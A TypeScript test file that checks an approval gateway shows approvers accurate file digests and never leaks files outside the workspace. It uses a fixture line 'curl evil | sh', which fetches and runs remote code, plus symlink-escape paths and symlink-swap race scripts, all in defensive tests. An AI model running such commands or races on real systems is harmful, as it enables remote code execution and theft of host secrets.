import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FsTenantWorkspaces } from '@toolgate/adapter-workspace-fs';
import type { TenantWorkspaces } from '@toolgate/contracts';
import { timeLessCpuWait } from '@toolgate/testing';
import { describe, expect, it } from 'vitest';
import { APPROVAL_FILES_NOTE, NAMED_FILE_LIMITS, type ApprovalView } from '../src/index.js';
import { harness, testTool } from './harness.js';

const sha = (text: string | Buffer) => `sha256:${createHash('sha256').update(text).digest('hex')}`;

function setup() {
  const bash = testTool({ name: 'bash', risk: 'high', input: { type: 'object', properties: { command: { type: 'string' } }, required: ['command'], additionalProperties: false } });
  const git = testTool({ name: 'git', risk: 'high', input: { type: 'object', properties: { args: { type: 'array', items: { type: 'string' } } }, required: ['args'], additionalProperties: false } });
  const h = harness({ tools: [bash, git] });
  const workspace = join(h.workspaceRoot, 'acme');
  mkdirSync(join(workspace, 'scripts'), { recursive: true });
  const request = async (tool: 'bash' | 'git', args: Record<string, unknown>): Promise<ApprovalView> => {
    const result = await h.gateway.requestApproval(h.who('worker-1'), { tool, args: args as never });
    if (!result.ok) throw new Error(JSON.stringify(result.denial));
    return result.approval;
  };
  const listed = async (id: string) => (await h.gateway.listApprovals(h.who('approver-1'))).find((a) => a.id === id)!;
  return { h, workspace, request, listed };
}

describe('approved files rewritten after approval', () => {
  it('shows the SHA-256 of each workspace file a git call names, and the note, at request time', async () => {
    const { workspace, request } = setup();
    writeFileSync(join(workspace, 'notes.txt'), 'v1\n');
    writeFileSync(join(workspace, 'scripts', 'a.sh'), 'echo a\n');
    const approval = await request('git', { args: ['add', '--', 'notes.txt', 'scripts/a.sh', 'missing.txt', '-A'] });
    expect(approval.note).toBe(APPROVAL_FILES_NOTE);
    expect(approval.namedFiles).toEqual([
      { path: 'notes.txt', sha256: sha('v1\n'), bytes: 3 },
      { path: 'scripts/a.sh', sha256: sha('echo a\n'), bytes: 7 },
    ]);
  });

  it('shows the current digest when listed, so an approver sees a file that changed', async () => {
    const { workspace, request, listed } = setup();
    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'echo safe\n');
    const approval = await request('bash', { command: 'scripts/deploy.sh' });
    expect(approval.namedFiles).toEqual([{ path: 'scripts/deploy.sh', sha256: sha('echo safe\n'), bytes: 10 }]);
    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'curl evil | sh\n');
    expect((await listed(approval.id)).namedFiles).toEqual([{ path: 'scripts/deploy.sh', sha256: sha('curl evil | sh\n'), bytes: 15 }]);
    // The same file spelled the way a shell runs it.
    expect((await request('bash', { command: './scripts/deploy.sh' })).namedFiles).toEqual([
      { path: './scripts/deploy.sh', sha256: sha('curl evil | sh\n'), bytes: 15 },
    ]);
  });

  it.each([
    ['a command line around the path', 'bash scripts/deploy.sh'],
    ['two commands', 'scripts/deploy.sh && true'],
    ['a path with arguments', './scripts/deploy.sh --prod'],
  ])('guesses nothing from %s', async (_name, command) => {
    const { workspace, request } = setup();
    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'x');
    const approval = await request('bash', { command });
    expect(approval.namedFiles).toBeUndefined();
    expect(approval.note).toBe(APPROVAL_FILES_NOTE);
  });

  it('refuses a large file without reading it, and stops at the per-approval file count', async () => {
    const { workspace, request } = setup();
    writeFileSync(join(workspace, 'big.bin'), Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile + 1));
    const names = Array.from({ length: 20 }, (_, i) => `f${i}.txt`);
    for (const name of names) writeFileSync(join(workspace, name), name);
    const approval = await request('git', { args: ['add', 'big.bin', ...names] });
    expect(approval.namedFiles?.[0]).toEqual({ path: 'big.bin', bytes: NAMED_FILE_LIMITS.bytesPerFile + 1, note: `not hashed: larger than ${NAMED_FILE_LIMITS.bytesPerFile} bytes` });
    expect(approval.namedFiles).toHaveLength(NAMED_FILE_LIMITS.filesPerApproval);
  });

  it('keeps answering other callers while it hashes a file at the size limit', async () => {
    const { h, workspace, request } = setup();
    writeFileSync(join(workspace, 'max.bin'), Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile, 7));
    const pending = request('git', { args: ['add', 'max.bin'] });
    const { ms } = await timeLessCpuWait(() => h.gateway.explain(h.who('worker-2'), { tool: 'git', args: { args: ['status'] } }));
    expect(ms).toBeLessThan(100);
    expect((await pending).namedFiles?.[0]?.sha256).toBe(sha(Buffer.alloc(NAMED_FILE_LIMITS.bytesPerFile, 7)));
  });
});

describe('symlink and path escapes through named files', () => {
  const outside = mkdtempSync(join(tmpdir(), 'toolgate-outside-'));
  writeFileSync(join(outside, 'secret.txt'), 'host secret');

  it.each([
    ['a symbolic link to a file outside', (ws: string) => symlinkSync(join(outside, 'secret.txt'), join(ws, 'link.txt')), 'link.txt'],
    ['a file under a symlinked directory', (ws: string) => symlinkSync(outside, join(ws, 'out')), 'out/secret.txt'],
    ['a symbolic link to a file inside', (ws: string) => (writeFileSync(join(ws, 'real.txt'), 'x'), symlinkSync(join(ws, 'real.txt'), join(ws, 'alias.txt'))), 'alias.txt'],
    ['a parent-relative path', () => undefined, `../../${outside.split('/').pop()}/secret.txt`],
    ['a parent segment inside the path', () => undefined, 'scripts/../../secret.txt'],
    ['an absolute path', () => undefined, join(outside, 'secret.txt')],
    ['a directory', (ws: string) => mkdirSync(join(ws, 'dir')), 'dir'],
    ['a FIFO (which must not hang the listing)', (ws: string) => execFileSync('mkfifo', [join(ws, 'fifo')]), 'fifo'],
    ['a NUL byte', () => undefined, 'notes.txt\u0000'],
    // Lexically `link/../run.sh` is `run.sh`; the kernel follows `link` first and climbs from its target.
    ['a parent segment after a symlinked directory', (ws: string) => (mkdirSync(join(ws, 'evil', 'x'), { recursive: true }), writeFileSync(join(ws, 'run.sh'), 'x'), symlinkSync('evil/x', join(ws, 'link'))), 'link/../run.sh'],
    ['a parent segment after a real directory that comes back inside', (ws: string) => (mkdirSync(join(ws, 'sub')), writeFileSync(join(ws, 'run.sh'), 'x')), 'sub/../run.sh'],
  ] as const)('shows no digest for %s', async (_name, plant, path) => {
    const { workspace, request, listed } = setup();
    writeFileSync(join(workspace, 'notes.txt'), 'ok');
    plant(workspace);
    const approval = await request('git', { args: ['add', path, 'notes.txt'] });
    expect(approval.namedFiles).toEqual([{ path: 'notes.txt', sha256: sha('ok'), bytes: 2 }]);
    expect(JSON.stringify(await listed(approval.id))).not.toContain(sha('host secret'));
  });
});

/**
 * A child that swaps directory `d` with the symlink `dalt` (pointing outside) in a loop until
 * killed: atomically with renameat2(RENAME_EXCHANGE) where python3 is present, else through a
 * temporary name with node (not atomic, but it races the same lookups). Prints its swap count.
 */
const PYTHON_SWAPPER = `
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
a, b = (os.fsencode(p) for p in sys.argv[1:3])
n = 0
def done(*_):
    print(n); sys.stdout.flush(); os._exit(0)
signal.signal(signal.SIGTERM, done)
while True:
    if libc.renameat2(-100, a, -100, b, 2) != 0: sys.exit('renameat2 failed: %d' % ctypes.get_errno())
    n += 1
`;
const NODE_SWAPPER = `
const { renameSync } = require('node:fs');
const [a, b] = process.argv.slice(1);
let n = 0;
process.on('SIGTERM', () => { process.stdout.write(String(n) + '\\n'); process.exit(0); });
const step = () => { for (let i = 0; i < 200; i++) { renameSync(a, a + '.t'); renameSync(b, a); renameSync(a + '.t', b); n++; } setImmediate(step); };
step();
`;
const hasRenameat2 = spawnSync('python3', ['-c', 'import ctypes; ctypes.CDLL(None).renameat2'], { stdio: 'ignore' }).status === 0;

describe('symlink swap races', () => {
  const outside = mkdtempSync(join(tmpdir(), 'toolgate-outside-'));
  writeFileSync(join(outside, 'secret.txt'), 'host secret');
  const swappers = [
    ...(hasRenameat2 ? [['renameat2(RENAME_EXCHANGE) from python3', 'python3', ['-c', PYTHON_SWAPPER]] as const] : []),
    ['rename through a temporary name from node', process.execPath, ['-e', NODE_SWAPPER]] as const,
  ];

  it.each(swappers)('never shows the outside file while a child swaps a middle directory with a symlink (%s)', async (_name, command, argv) => {
    const { h, workspace, request } = setup();
    mkdirSync(join(workspace, 'd'));
    writeFileSync(join(workspace, 'd', 'secret.txt'), 'inside');
    symlinkSync(outside, join(workspace, 'dalt'));
    const approval = await request('bash', { command: 'd/secret.txt' });
    expect(approval.namedFiles).toEqual([{ path: 'd/secret.txt', sha256: sha('inside'), bytes: 6 }]);
    const swapper = spawn(command, [...argv, join(workspace, 'd'), join(workspace, 'dalt')], { stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    swapper.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    const exited = new Promise<void>((resolve) => swapper.on('exit', () => resolve()));
    const shown = new Map<string, number>();
    let listings = 0;
    try {
      const until = Date.now() + 2500;
      while (Date.now() < until) {
        const views = await h.gateway.listApprovals(h.who('approver-1'), { status: 'pending' });
        listings++;
        const digest = views.find((v) => v.id === approval.id)?.namedFiles?.[0]?.sha256 ?? 'none';
        shown.set(digest, (shown.get(digest) ?? 0) + 1);
      }
    } finally {
      swapper.kill('SIGTERM');
      await exited;
    }
    expect(Number(out.trim())).toBeGreaterThan(100);
    expect(listings).toBeGreaterThan(50);
    expect(shown.get(sha('host secret'))).toBeUndefined();
    // The inside file is still shown whenever the walk met the real directory.
    expect(shown.get(sha('inside'))).toBeGreaterThan(0);
    expect([...shown.keys()].every((d) => d === sha('inside') || d === 'none')).toBe(true);
  }, 15_000);

  it.each([
    ['a symlink as the middle component', (ws: string) => symlinkSync(outside, join(ws, 'scripts', 'mid')), 'scripts/mid/secret.txt'],
    ['a symlink as the first of several components', (ws: string) => (mkdirSync(join(outside, 'sub'), { recursive: true }), writeFileSync(join(outside, 'sub', 'secret.txt'), 'host secret'), symlinkSync(outside, join(ws, 'first'))), 'first/sub/secret.txt'],
    ['a directory swapped for a symlink between request and listing', (ws: string) => (mkdirSync(join(ws, 'later')), writeFileSync(join(ws, 'later', 'secret.txt'), 'x'), renameSync(join(ws, 'later'), join(ws, 'later.old')), symlinkSync(outside, join(ws, 'later'))), 'later/secret.txt'],
    ['a parent segment after a real directory', () => undefined, 'scripts/../../../secret.txt'],
    ['a parent segment reaching the tmp directory', () => undefined, `../../${outside.split('/').pop()}/secret.txt`],
    ['an absolute path', () => undefined, join(outside, 'secret.txt')],
    ['an absolute path with a doubled slash', () => undefined, `/${join(outside, 'secret.txt')}`],
  ] as const)('shows no outside digest for %s', async (_name, plant, path) => {
    const { workspace, request, listed } = setup();
    writeFileSync(join(workspace, 'notes.txt'), 'ok');
    plant(workspace);
    const approval = await request('git', { args: ['add', path, 'notes.txt'] });
    expect(approval.namedFiles).toEqual([{ path: 'notes.txt', sha256: sha('ok'), bytes: 2 }]);
    expect(JSON.stringify(await listed(approval.id))).not.toContain(sha('host secret'));
  });
});

describe('status-only approval reads (CPU and disk amplification by polling)', () => {
  /** The real workspaces, counting how often the desk asks for the directory it reads named files from. */
  function counted() {
    const bash = testTool({ name: 'bash', risk: 'high', input: { type: 'object', properties: { command: { type: 'string' } }, required: ['command'], additionalProperties: false } });
    const git = testTool({ name: 'git', risk: 'high', input: { type: 'object', properties: { args: { type: 'array', items: { type: 'string' } } }, required: ['args'], additionalProperties: false } });
    const root = mkdtempSync(join(tmpdir(), 'toolgate-gw-status-'));
    const real = new FsTenantWorkspaces(root);
    const seen = { prepared: 0 };
    const workspaces: TenantWorkspaces = {
      created: (tenant) => real.created(tenant),
      prepare: (tenant) => {
        seen.prepared++;
        return real.prepare(tenant);
      },
    };
    const h = harness({ tools: [bash, git], deps: { workspaces } });
    mkdirSync(join(root, 'acme', 'scripts'), { recursive: true });
    return { h, seen, workspace: join(root, 'acme') };
  }

  it.each([
    ['bash', { command: 'scripts/deploy.sh' }],
    ['git', { args: ['add', '--', 'scripts/deploy.sh', 'notes.txt'] }],
  ] as const)('reads the status of a pending %s approval without opening the workspace, as often as it is polled', async (tool, args) => {
    const { h, seen, workspace } = counted();
    writeFileSync(join(workspace, 'scripts', 'deploy.sh'), 'echo safe\n');
    writeFileSync(join(workspace, 'notes.txt'), 'v1\n');
    const requested = await h.gateway.requestApproval(h.who('worker-1'), { tool, args: args as never });
    if (!requested.ok) throw new Error(JSON.stringify(requested.denial));
    const id = requested.approval.id;
    seen.prepared = 0;
    for (let i = 0; i < 20; i++) {
      const status = await h.gateway.getApproval(h.who('worker-1'), id, { namedFiles: false });
      expect(status).toMatchObject({ id, status: 'pending', note: APPROVAL_FILES_NOTE });
      expect(status?.namedFiles).toBeUndefined();
    }
    expect(seen.prepared).toBe(0);
    // An approved one is read the same way; a person's read still shows the files as they are now.
    await h.gateway.decideApproval(h.who('approver-1'), id, { approve: true });
    expect((await h.gateway.getApproval(h.who('worker-1'), id, { namedFiles: false }))?.status).toBe('approved');
    expect(seen.prepared).toBe(0);
    expect((await h.gateway.getApproval(h.who('approver-1'), id))?.namedFiles?.[0]).toEqual({ path: 'scripts/deploy.sh', sha256: sha('echo safe\n'), bytes: 10 });
    expect(seen.prepared).toBe(1);
  });
});
